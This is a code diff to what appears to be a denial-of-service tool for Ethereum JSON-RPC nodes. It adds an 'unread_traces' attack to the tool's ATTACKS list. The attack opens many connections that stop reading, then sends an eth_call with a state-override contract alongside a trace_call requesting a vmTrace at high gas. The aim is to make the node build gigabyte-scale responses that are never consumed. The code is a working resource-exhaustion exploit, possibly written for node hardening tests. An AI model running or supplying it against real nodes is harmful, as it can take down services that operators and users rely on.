@@ -71,6 +71,19 @@ async def abandoned_calls(target: Target) -> None:
             await send(writer, request(call("eth_call", {"data": ENDLESS}, "latest"), path=target.http.path))
 
 
+async def unread_traces(target: Target) -> None:
+    """A long answer and behind it a trace of gigabytes, on connections that take nothing."""
+    wide = {NOBODY: {"code": "0x623d09006000f3"}}
+    asked = call("eth_call", {"to": NOBODY, "gas": "0x2faf080"}, "latest", wide)
+    traced = call("trace_call", {"data": ENDLESS, "gas": "0x2faf080"}, ["vmTrace"], "latest")
+    async with contextlib.AsyncExitStack() as held:
+        for _ in range(target.count(16, 4)):
+            _, writer = await held.enter_async_context(opened(target.http))
+            writer.transport.pause_reading()  # type: ignore[attr-defined]
+            writer.write(request(asked, path=target.http.path) + request(traced, path=target.http.path))
+        await asyncio.sleep(3)
+
+
 async def endless_ranges(target: Target) -> None:
     """Ranges of 2^63 blocks."""
     far, near = hex(2**63 - 1), "0x0"
@@ -161,6 +174,7 @@ ATTACKS = (
     endless_calls,
     unknown_functions,
     abandoned_calls,
+    unread_traces,
     endless_ranges,
     batches_of_blocks,
     proofs,
